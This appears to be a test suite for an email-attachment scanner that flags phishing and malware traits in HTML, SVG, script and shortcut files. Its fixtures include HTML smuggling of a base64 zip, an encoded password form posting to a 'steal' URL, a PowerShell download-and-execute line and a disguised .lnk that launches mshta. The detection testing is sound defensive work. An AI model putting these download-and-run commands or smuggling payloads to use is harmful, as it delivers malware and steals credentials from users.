import { expect, test } from 'vitest'
import { join, lnk, raw, utf8, utf16 } from './testing/build.ts'
import { inspect } from './testing/inspect.ts'

const payload = btoa(`PK\x03\x04${'a'.repeat(6_000)}`)

test.each([
  ['text and a link', '<p><a href="https://example.com/">見る</a>', []],
  [
    'a password form',
    '<form action="https://example.com/x"><input type="password">',
    ['form', 'external-form', 'form-password'],
  ],
  ['a form of its own', '<form action="/search"><input type="text">', ['form']],
  ['a refresh', '<meta http-equiv="Refresh" content="0; url=https://example.com/">', ['meta-refresh', 'leads-on']],
  ['a refresh of itself', '<meta http-equiv="refresh" content="30">', []],
  ['a handler', '<img src=x onerror="location.href=1">', ['event-handler', 'redirect', 'leads-on']],
  ['a script that leads on', '<p>Please wait</p><script>top.location = u</script>', ['script', 'redirect', 'leads-on']],
  [
    'a script that leads on and much to read',
    `<p>${'見積書 '.repeat(150)}</p><script>location = u</script>`,
    ['script', 'redirect'],
  ],
  ['a script that compares', '<script>if (location == u) a.location = 1</script>', ['script']],
  ['a script from elsewhere', '<script src="https://example.com/a.js"></script>', ['script', 'external-script']],
  ['a frame', '<iframe src="https://example.com/"></iframe>', ['iframe']],
  [
    'a file in a blob',
    `<script>var b=new Blob([Uint8Array.from(atob("${payload}"),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="a.zip"</script>`,
    ['script', 'long-base64', 'hidden-payload', 'atob', 'blob', 'object-url', 'save-blob', 'smuggling'],
  ],
  [
    'a page in unescape',
    '<script>document.write(unescape("%3Cform%3E"))</script>',
    ['script', 'document-write', 'unescape', 'smuggling'],
  ],
  [
    'a zip in a data link',
    `<a download="a.zip" href="data:application/zip;base64,${payload}">x</a>`,
    ['data-download', 'long-base64', 'hidden-payload', 'smuggling'],
  ],
  [
    'a picture in a data link',
    `<img src="data:image/png;base64,${payload}"><a href="data:image/png;base64,${payload}">x</a>`,
    [],
  ],
  ['a blob for its own statistics', '<script>var b = new Blob(["a"]); send(b)</script>', ['script', 'blob']],
  ['a written year', '<script>document.write(new Date().getFullYear())</script>', ['script', 'document-write']],
])('inspectAttachment() an HTML file with %s', (_, html, marks) => {
  const a = inspect('a.html', utf8(`<html><body>${html}`))
  expect([a.kind, a.marks]).toEqual(['html', marks])
})

test.each([
  [
    'anchors with their text',
    '<a href="https://example.com/&#x61;">こちら <b>から</b></a>',
    [['a', 'https://example.com/a', 'こちら から']],
  ],
  ['forms', '<form action="https://example.com/f">', [['form', 'https://example.com/f', '']]],
  [
    'addresses in scripts',
    '<script>x="https://example.com/s";y=atob("aHR0cHM6Ly9leGFtcGxlLm5ldC9o")</script>',
    [
      ['script', 'https://example.com/s', ''],
      ['script', 'https://example.net/h', ''],
    ],
  ],
  [
    'refreshes',
    '<meta http-equiv=refresh content="0;URL=\'https://example.com/m\'">',
    [['meta-refresh', 'https://example.com/m', '']],
  ],
  ['broken over lines', '<a href="https://exam\nple.com/">x</a>', [['a', 'https://example.com/', 'x']]],
])('inspectAttachment() links of an HTML file: %s', (_, html, want) => {
  const { links } = inspect('a.html', utf8(`<html>${html}`))
  expect(links.map((l) => [l.source, l.href, l.shown])).toEqual(want)
})

const login = '<form action="https://example.com/steal"><input type="password"></form>'

test.each([
  ['base64', `<script>document.write(atob("${btoa(`<html>${' '.repeat(300)}${login}`)}"))</script>`],
  [
    'percent signs',
    `<script>document.write(unescape("${login.replace(/[^a-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}"))</script>`,
  ],
])('inspectAttachment() looks into a page hidden in %s', (_, html) => {
  const a = inspect('a.html', utf8(`<html>${html}`))
  expect(a.marks).toEqual(expect.arrayContaining(['smuggling', 'form-password', 'external-form']))
  expect(a.links.map((l) => l.href)).toContain('https://example.com/steal')
})

test('inspectAttachment() text of links in Shift_JIS and UTF-16', () => {
  const sjis = join(
    raw('<html><meta charset=Shift_JIS><a href="https://example.com/">'),
    raw('\x93\xfa\x96\x7b'),
    raw('</a>'),
  )
  const wide = join(raw('\xff\xfe'), utf16('<html><a href="https://example.com/">日本</a>'))
  for (const content of [sjis, wide]) expect(inspect('a.html', content).links[0]?.shown).toBe('日本')
})

test('inspectAttachment() an SVG with a script and a foreign page', () => {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" onload="f()"><foreignObject><a xlink:href="https://example.com/">x</a></foreignObject><script><![CDATA[location.href="https://example.net/"]]></script></svg>'
  const a = inspect('photo.svg', utf8(svg), 'image/svg+xml')
  expect([a.kind, a.marks]).toEqual(['svg', ['event-handler', 'foreign-object', 'script', 'redirect', 'leads-on']])
  expect(a.links.map((l) => l.target.host)).toEqual(['example.com', 'example.net'])
})

test('inspectAttachment() a web archive', () => {
  const mht =
    'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html><a href=3D"https://exam=\r\nple.com/">x</a>\r\n'
  const a = inspect('a.mht', utf8(mht))
  expect([a.kind, a.marks, a.links[0]?.href]).toEqual(['html', ['web-archive'], 'https://example.com/'])
})

test.each([
  ['a.js', 'var s = new ActiveXObject("WScript.Shell")', ['command', 'executable']],
  ['a.ps1', 'IEX (New-Object Net.WebClient).DownloadString("https://example.com/a")', ['command', 'executable']],
  ['a.bat', '@echo off\r\nstart https://example.com/', ['executable']],
  ['a.sh', '#!/bin/sh\necho hello', []],
])('inspectAttachment() the script %s', (name, text, marks) => {
  const a = inspect(name, utf8(text))
  expect([a.kind, a.marks]).toEqual(['script', marks])
})

test('inspectAttachment() a Windows shortcut', () => {
  const a = inspect(
    '請求書.pdf.lnk',
    lnk('..\\..\\Windows\\System32\\cmd.exe', '/c mshta https://example.com/a.hta', '\\\\example.net\\icon.ico'),
  )
  expect([a.kind, a.entries]).toEqual(['lnk', ['..\\..\\Windows\\System32\\cmd.exe']])
  expect(a.marks).toEqual(['command', 'executable', 'double-extension'])
  expect(a.links.map((l) => l.href)).toEqual(['https://example.com/a.hta', '\\\\example.net\\icon.ico'])
})

test('inspectAttachment() a Windows shortcut to a document runs no command', () => {
  expect(inspect('資料.lnk', lnk('..\\資料\\見積書.xlsx', '', '')).marks).toEqual(['executable'])
})

test.each([
  ['a.url', '[InternetShortcut]\r\nURL=https://example.com/\r\n', ['internet-shortcut'], 'https://example.com/'],
  [
    'a.url',
    '[InternetShortcut]\r\nURL=file://example.com/a.exe\r\n',
    ['internet-shortcut', 'network-path'],
    'file://example.com/a.exe',
  ],
  [
    'a.desktop',
    '[Desktop Entry]\nExec=curl https://example.com/a\n',
    ['internet-shortcut', 'command'],
    'https://example.com/a',
  ],
  [
    'a.webloc',
    '<?xml version="1.0"?><plist><dict><key>URL</key><string>https://example.com/?a&amp;b</string></dict></plist>',
    ['internet-shortcut'],
    'https://example.com/?a&b',
  ],
])('inspectAttachment() the shortcut %s', (name, text, marks, href) => {
  const a = inspect(name, utf8(text))
  expect([a.kind, a.marks, a.links[0]?.href]).toEqual(['lnk', marks, href])
})

test('inspectAttachment() addresses in a folded calendar and a contact', () => {
  const ics =
    'BEGIN:VCALENDAR\r\nDESCRIPTION:参加はこちら https://example.com/join?id=1\r\n 23\\nよろしく\r\nURL:https://example.net/\r\n'
  expect(inspect('a.ics', utf8(ics)).links.map((l) => [l.source, l.href])).toEqual([
    ['calendar', 'https://example.com/join?id=123'],
    ['calendar', 'https://example.net/'],
  ])
  expect(inspect('a.vcf', utf8('BEGIN:VCARD\r\nURL:https://example.com/\r\n')).links).toHaveLength(1)
})

test.each([
  ['a link around a rectangle', '<a href="https://example.com/"><rect width="100%" height="100%"/></a>', true],
  ['a link around words', '<rect/><a href="https://example.com/"><text>drawn with</text></a>', false],
])('inspectAttachment() an SVG with %s', (_, inner, covers) => {
  const a = inspect('a.svg', utf8(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`), 'image/svg+xml')
  expect(a.marks.includes('covering-link')).toBe(covers)
})
